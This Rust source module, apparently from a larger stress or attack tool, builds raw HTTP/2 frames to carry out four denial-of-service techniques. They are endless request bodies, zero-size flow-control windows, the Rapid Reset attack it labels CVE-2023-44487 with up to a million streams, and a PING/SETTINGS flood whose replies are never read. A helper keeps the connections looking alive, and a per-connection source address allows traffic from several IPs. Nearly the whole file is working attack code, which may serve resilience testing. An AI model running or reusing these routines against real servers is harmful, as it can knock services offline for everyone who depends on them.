//! HTTP/2 (RFC 9113) frame by frame, because no decent library lets a client behave like this.

use std::io;
use std::net::Ipv4Addr;

use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf, split};

use super::{Stream, Target};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;
/// SETTINGS_INITIAL_WINDOW_SIZE = 0.
const WINDOW_0: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// Streams of one connection that are opened at a time.
const STREAMS: u32 = 200;

type Halves = (ReadHalf<Box<dyn Stream>>, WriteHalf<Box<dyn Stream>>);

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A literal that is not indexed, by the index of its name in the static table (RFC 7541 section 6.2.2).
fn literal(block: &mut Vec<u8>, name: u8, value: &str) {
    match name.checked_sub(15) {
        None => block.push(name),
        Some(rest) => block.extend([15, rest]),
    }
    let length = value.len();
    match u8::try_from(length) {
        Ok(length) if length < 127 => block.push(length),
        _ => {
            let rest = length.saturating_sub(127);
            block.extend([127, (rest % 128) as u8 | 128, (rest / 128) as u8]);
        }
    }
    block.extend(value.as_bytes());
}

/// The header block of a request.
fn request(target: &Target, post: bool) -> Vec<u8> {
    // :method, :scheme https
    let mut block = vec![if post { 0x83 } else { 0x82 }, 0x87];
    literal(&mut block, 1, "localhost");
    literal(&mut block, 4, &target.path);
    if post {
        let kind = match target.name.as_str() {
            "grpc" => "application/grpc",
            _ => "application/json",
        };
        literal(&mut block, 31, kind);
    }
    if let Some(token) = &target.token {
        literal(&mut block, 23, &format!("Bearer {token}"));
    }
    block
}

async fn begin(target: &Target, from: Ipv4Addr, settings: &[u8]) -> io::Result<Halves> {
    let mut stream = target.stream(from, true).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, 0, settings)).await?;
    stream.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
    stream.flush().await?;
    Ok(split(stream))
}

/// Answers pings, so that the connection looks alive, until the server closes it.
async fn stay_alive(
    mut reader: ReadHalf<Box<dyn Stream>>,
    mut writer: WriteHalf<Box<dyn Stream>>,
) -> io::Result<()> {
    loop {
        let mut head = [0; 9];
        reader.read_exact(&mut head).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        reader.read_exact(&mut payload).await?;
        if head[3] == PING && head[4] & ACK == 0 {
            writer.write_all(&frame(PING, ACK, 0, &payload)).await?;
            writer.flush().await?;
        }
    }
}

/// Streams whose bodies do not end.
pub(super) async fn streams(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (reader, mut writer) = begin(target, from, &[]).await?;
    let block = request(target, true);
    for number in 0..STREAMS {
        let stream = 2 * number + 1;
        writer
            .write_all(&frame(HEADERS, END_HEADERS, stream, &block))
            .await?;
        writer.write_all(&frame(DATA, 0, stream, b"     ")).await?;
    }
    writer.flush().await?;
    opened();
    stay_alive(reader, writer).await
}

/// Streams whose answers have nowhere to go.
pub(super) async fn shut_window(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (reader, mut writer) = begin(target, from, &WINDOW_0).await?;
    let block = request(target, false);
    for number in 0..STREAMS {
        let flags = END_HEADERS | END_STREAM;
        writer
            .write_all(&frame(HEADERS, flags, 2 * number + 1, &block))
            .await?;
    }
    writer.flush().await?;
    opened();
    stay_alive(reader, writer).await
}

/// Streams that are reset as soon as they are open (CVE-2023-44487).
pub(super) async fn resets(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (mut reader, mut writer) = begin(target, from, &[]).await?;
    let block = request(target, false);
    opened();
    let reading = async {
        let mut rest = [0; 4096];
        while reader.read(&mut rest).await? > 0 {}
        io::Result::Ok(())
    };
    let writing = async {
        for number in 0..1_000_000 {
            let stream = 2 * number + 1;
            let mut both = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
            both.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
            writer.write_all(&both).await?;
        }
        io::Result::Ok(())
    };
    tokio::try_join!(reading, writing).map(drop)
}

/// Frames that want an answer each; not one is read.
pub(super) async fn pings(target: &Target, from: Ipv4Addr, opened: impl FnOnce()) -> io::Result<()> {
    let (_reader, mut writer) = begin(target, from, &[]).await?;
    opened();
    let mut both = frame(PING, 0, 0, &[7; 8]);
    both.extend(frame(SETTINGS, 0, 0, &[]));
    loop {
        writer.write_all(&both).await?;
    }
}
